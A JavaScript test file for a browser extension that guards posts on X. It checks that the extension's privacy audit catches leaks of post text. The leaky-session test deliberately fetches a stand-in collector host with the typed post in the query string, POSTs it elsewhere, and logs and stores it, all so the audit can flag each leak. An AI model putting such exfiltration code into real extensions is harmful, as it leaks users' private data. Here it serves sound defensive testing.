// The privacy audit's own test: it must catch each way post text could leave or stay behind.
// A session that leaks on purpose (from the service worker and from the page) and one that
// behaves are recorded apart from this file's regular log, then audited as every test file's
// log is audited by zz-privacy-audit.test.mjs.
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { launchWithExtension, routeFixtures, siteFor } from './serve.mjs';
import { DIST_CHROMIUM, eventually, gateDialog, inShadow, pressGate, typedOnX } from './extension.mjs';
import { audit, logTo, postWindows, readLog } from './privacy-log.mjs';

const isFixture = (url) => !!siteFor(url);

/** Runs `fn(context)` in a browser with the extension, recorded to a log of its own; returns it. */
async function recorded(name, fn) {
  const file = path.join(tmpdir(), `postwacht-${name}-${process.pid}.jsonl`);
  const before = logTo(file);
  try {
    const context = await launchWithExtension(DIST_CHROMIUM, { locale: 'nl-NL', args: ['--lang=nl'], viewport: { width: 1280, height: 900 } });
    try {
      await routeFixtures(context);
      await fn(context);
    } finally {
      await context.close();
    }
  } finally {
    logTo(before);
  }
  const entries = readLog(file);
  rmSync(file);
  return entries;
}

const POST = 'Mijn BSN is 111222333, stuur het dossier naar de afdeling';

test('the audit finds post text in requests, console output, errors and storage, and requests to anywhere else', async () => {
  const entries = await recorded('leaky', async (context) => {
    const page = await typedOnX(context, POST, 1);
    const [sw] = context.serviceWorkers();
    await sw.evaluate(async (text) => {
      console.log(`draft: ${text}`);
      await chrome.storage.local.set({ draft: text });
      await chrome.storage.session.set({ drafts: [{ text: text.toUpperCase() }] });
      await fetch(`https://collector.example/c?d=${encodeURIComponent(text.slice(0, 20))}`).catch(() => undefined);
      await fetch('https://x.com/collect', { method: 'POST', body: text }).catch(() => undefined);
      await fetch('https://elsewhere.example/ping').catch(() => undefined);
    }, POST);
    await page.evaluate((text) => {
      console.warn(text.slice(4, 30));
      setTimeout(() => {
        throw new Error(`failed on ${text}`);
      });
    }, POST);
    await page.waitForTimeout(300);
  });
  const problems = audit(entries, { isFixture });
  const expected = [
    /^post text "[^"]+" in a request: GET https:\/\/collector\.example\/c\?d=/,
    /^the extension \(service-worker\) requested GET https:\/\/collector\.example\/c/,
    /^post text "[^"]+" in a request: POST https:\/\/x\.com\/collect$/,
    /^the extension \(service-worker\) requested POST https:\/\/x\.com\/collect$/,
    /^the extension \(service-worker\) requested GET https:\/\/elsewhere\.example\/ping$/,
    /^post text "[^"]+" in console output of chrome-extension:\/\/\w+\/background\.js: draft: Mijn BSN/,
    /^post text "[^"]+" in console output of https:\/\/x\.com\/home: +BSN is 111222333/,
    /^post text "[^"]+" in error output of https:\/\/x\.com\/home: Error: failed on Mijn BSN/,
    /^post text "[^"]+" in the extension's storage: Mijn BSN is 111222333/,
    /^post text "[^"]+" in the extension's storage: MIJN BSN IS 111222333/,
  ];
  for (const pattern of expected) assert.ok(problems.some((p) => pattern.test(p)), `${pattern} among:\n${problems.join('\n')}`);
  assert.equal(problems.length, expected.length, problems.join('\n'));
});

test('a session that behaves passes: the reason for posting anyway is kept, the post is not', async () => {
  const reason = 'Testnummer uit de openbare documentatie';
  const entries = await recorded('clean', async (context) => {
    const page = await typedOnX(context, POST, 1);
    await page.keyboard.press('Control+Enter');
    await eventually(async () => (await gateDialog(page, page.mainFrame()))?.open === true, 'the dialog');
    await inShadow(page, page.mainFrame(), (root) => root.querySelector('[data-postwacht=reason]').focus());
    await page.keyboard.type(reason);
    await pressGate(page, page.mainFrame(), 'post');
    await eventually(async () => (await page.evaluate(() => window.__fixture.submissions.length)) === 1, 'the post');
  });
  assert.deepEqual(entries.filter((e) => e.kind === 'typed').map(({ into, text }) => ({ into, text })), [
    { into: 'page', text: POST },
    { into: 'our-ui', text: reason },
  ]);
  assert.ok(postWindows(entries).size > 0);
  const [dump] = entries.filter((e) => e.kind === 'storage');
  assert.equal(dump.areas.local.overrides[0].reason, reason, 'the dump holds what the extension kept');
  assert.ok(entries.some((e) => e.kind === 'request' && e.url === 'https://x.com/home'), 'the page load was recorded');
  assert.deepEqual(audit(entries, { isFixture }), []);
});
